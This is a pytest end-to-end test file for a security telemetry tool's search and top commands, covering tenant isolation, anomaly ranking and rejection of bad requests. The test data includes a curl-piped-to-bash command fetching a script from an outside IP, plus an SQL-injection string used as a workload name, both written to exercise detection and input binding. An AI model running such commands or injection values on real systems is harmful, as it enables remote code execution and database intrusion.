"""The query side against a running receiver with bearer-token tenants: `procsight search` / `procsight top`
over HTTP see only the caller's tenant, rank the attack first, and bind hostile input."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator

import pytest
from conftest import WEB_EVENTS, Stack, receiver_config, running_stack
from test_e2e_clients import send_with_python_sdk

from procsight.cli import main
from testing.otlp_sink import OtlpSink

TOKENS = {"team-a": "token-of-team-a", "team-b": "token-of-team-b"}


@pytest.fixture(scope="module")
def tenant_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    tmp_path = tmp_path_factory.mktemp("tenants")
    with OtlpSink() as sink:
        config = receiver_config(tmp_path, {"otlphttp/forward": {"endpoint": sink.http_url}})  # older alias
        config["extensions"]["bearertokenauth"] = {"tenants": [
            {"token": token, "tenant": tenant} for tenant, token in TOKENS.items()]}
        config["service"]["extensions"].append("bearertokenauth")
        for protocol in ("grpc", "http"):
            config["receivers"]["otlp"]["protocols"][protocol]["auth"] = {"authenticator": "bearertokenauth"}
        with running_stack(tmp_path, config, sink) as stack:
            yield stack


def run_cli(args: list[str], token: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
    monkeypatch.setenv("PROCSIGHT_TOKEN", token)
    code = main(args)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_search_and_top_over_http_per_tenant(tenant_stack: Stack, monkeypatch: pytest.MonkeyPatch,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter

    http = tenant_stack.service.http_endpoint()
    exporter = OTLPLogExporter(endpoint=f"http://{http}/v1/logs",
                               headers={"Authorization": f"Bearer {TOKENS['team-a']}"})
    assert send_with_python_sdk(exporter, WEB_EVENTS).exported == len(WEB_EVENTS)
    rows = tenant_stack.rows(len(WEB_EVENTS))
    assert {row["TenantId"] for row in rows} == {"team-a"}
    endpoint = f"http://{http}"

    code, out, err = run_cli(["search", "curl piped to bash", "--endpoint", endpoint, "--json"], TOKENS["team-a"],
                             monkeypatch, capsys)
    assert code == 0, err
    results = json.loads(out)["results"]
    assert results[0]["command_line"] == "sh -c curl -s http://203.0.113.7/x.sh | bash"
    assert all(result["workload"] == "web" for result in results)
    assert [r["relevance"] for r in results] == sorted((r["relevance"] for r in results), reverse=True)

    code, out, err = run_cli(["top", "--endpoint", endpoint, "--min-score", "0", "--since", "1h"], TOKENS["team-a"],
                             monkeypatch, capsys)
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == "Top anomalies since 1h (score >= 0, by incident):"
    assert "sh -c curl -s http://203.0.113.7/x.sh | bash" in "\n".join(lines[1:4])  # ranked at the top
    assert "why: " in out and "lineage: " in out

    # team-b sees none of team-a's events; a hostile workload name is data, not SQL
    code, out, _ = run_cli(["search", "curl bash", "--endpoint", endpoint, "--json"], TOKENS["team-b"],
                           monkeypatch, capsys)
    assert code == 0 and json.loads(out)["results"] == []
    code, out, _ = run_cli(["top", "--endpoint", endpoint, "--json", "--min-score", "0",
                            "--workload", "web' OR '1'='1"], TOKENS["team-a"], monkeypatch, capsys)
    assert code == 0 and json.loads(out)["results"] == []

    code, _, err = run_cli(["top", "--endpoint", endpoint], "wrong-token", monkeypatch, capsys)
    assert code == 1 and "HTTP 401" in err and "PROCSIGHT_TOKEN" in err


def test_bad_query_requests_are_400(tenant_stack: Stack) -> None:
    http = tenant_stack.service.http_endpoint()
    request = urllib.request.Request(f"http://{http}/telemetry/security/search", method="POST",
                                     data=json.dumps({"query": "x", "limit": 0}).encode(),
                                     headers={"Authorization": f"Bearer {TOKENS['team-a']}",
                                              "Content-Type": "application/json"})
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=10)
    assert caught.value.code == 400
